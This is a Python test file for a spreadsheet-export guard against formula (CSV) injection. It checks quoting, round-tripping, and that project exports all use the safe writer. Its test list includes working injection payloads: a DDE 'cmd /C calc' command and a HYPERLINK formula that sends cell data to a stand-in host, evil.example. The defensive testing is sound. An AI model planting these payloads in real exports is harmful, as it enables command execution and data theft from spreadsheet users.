"""Cells a spreadsheet shows as text: formulas guarded, numbers kept, and the guard undone exactly."""

import csv
import io
import random
import re
from pathlib import Path

import pytest
from openpyxl import Workbook

from haven.lib.spreadsheets import (
    FORMULA_START,
    PLAIN_NUMBER,
    SafeWriter,
    needs_guard,
    safe_cell,
    safe_row,
    unguard,
)

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "@SUM(9)",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\tx",
    "-Bình Dương",
    "+84 912 345 678",  # spaces make it a formula in Excel (the intersection operator)
    " =1+1",  # LibreOffice's "trim spaces" import option would drop the space
    "  @SUM(1)",
]
DATA = ["-3", "+84912345678", "-12.5", "0,5", "3", "Nguyễn Thị Hoa", "", "a=b", "hoa@example.org"]


def could_run(cell: str) -> bool:
    """What a spreadsheet would run: a formula character first (spaces before it trimmed)."""
    start = cell.lstrip(" ") if cell.lstrip(" ")[:1] in ("=", "+", "-", "@") else cell
    return start.startswith(FORMULA_START) and PLAIN_NUMBER.fullmatch(start) is None


class TestSafeCell:
    @pytest.mark.parametrize("text", ATTACKS)
    def test_a_cell_a_spreadsheet_could_run_gets_a_quote_in_front(self, text):
        assert safe_cell(text) == "'" + text

    @pytest.mark.parametrize("text", DATA)
    def test_plain_numbers_phone_numbers_and_text_stay_exactly_as_they_are(self, text):
        assert safe_cell(text) == text

    def test_values_that_are_not_text_are_left_to_the_writer(self):
        assert safe_cell(-3) == -3 and safe_cell(None) is None and safe_cell(2.5) == 2.5

    def test_a_real_apostrophe_is_data(self):
        assert safe_cell("'Ngọc") == "'Ngọc" and unguard("'Ngọc") == "'Ngọc"

    def test_a_value_that_looks_already_guarded_is_guarded_again(self):
        assert safe_cell("'=1") == "''=1"
        assert unguard("''=1") == "'=1"

    def test_many_quotes_in_front_do_not_recurse(self):
        text = "'" * 100_000 + "=1"
        assert needs_guard(text) and unguard(safe_cell(text)) == text


class TestRoundTrip:
    @pytest.mark.parametrize("text", ATTACKS + DATA + ["'", "''", "'-3", "'+1+1", "' =1"])
    def test_unguard_undoes_safe_cell(self, text):
        assert unguard(safe_cell(text)) == text

    def test_any_text_of_the_hard_characters_comes_back(self):
        alphabet = "'=+-@\t\r 0123456789.,aĐ"
        rng = random.Random(18)
        for _ in range(20_000):
            text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6)))
            guarded = safe_cell(text)
            assert unguard(guarded) == text
            assert not could_run(guarded), repr(text)

    def test_a_quote_we_did_not_put_there_stays(self):
        for text in ["'5", "'-3", "'Hoa", "'", "' "]:
            assert unguard(text) == text


class TestWriters:
    def test_the_csv_writer_guards_every_cell(self):
        out = io.StringIO()
        writer = SafeWriter(out)
        writer.writerow(["=1+1", "+84912345678", 7])
        writer.writerows([["@SUM(9)", "-3"]])
        assert list(csv.reader(io.StringIO(out.getvalue()))) == [
            ["'=1+1", "+84912345678", "7"],
            ["'@SUM(9)", "-3"],
        ]

    def test_an_xlsx_cell_is_text_not_a_formula(self):
        sheet = Workbook().active
        sheet.append(["=1+1", "@SUM(9)"])
        assert sheet["A1"].data_type == "f"  # what openpyxl does with a raw value
        sheet.append(safe_row(["=1+1", "@SUM(9)", "-3"]))
        assert [cell.data_type for cell in sheet[2]] == ["s", "s", "s"]
        assert sheet["A2"].value == "'=1+1"


def test_every_csv_writer_in_haven_is_the_safe_one():
    """A new export must go through `SafeWriter` or `safe_row`, not csv.writer or openpyxl raw."""
    root = Path(__file__).resolve().parents[2]
    raw = re.compile(r"csv\.(writer|DictWriter)\(|\.append\(|\.cell\(")
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheets.py" or "migrations" in path.parts:
            continue
        text = path.read_text()
        # The fast HTCDS export guards each column with safe_cell itself; test_csv_golden.py
        # holds its bytes equal to the SafeWriter export's, guarded cells included.
        guarded_itself = path.name == "csv_export.py" and "safe_cell(" in text
        if re.search(r"csv\.(writer|DictWriter)\(", text) and not guarded_itself:
            offenders.append(str(path.relative_to(root)))
        # A workbook whose every cell is typed as text cannot run a formula either
        # (exchange/xlsx.py; its tests check that no cell comes out as a formula).
        text_cells = 'data_type = "s"' in text
        if "openpyxl" in text and raw.search(text) and "safe_row" not in text and not text_cells:
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
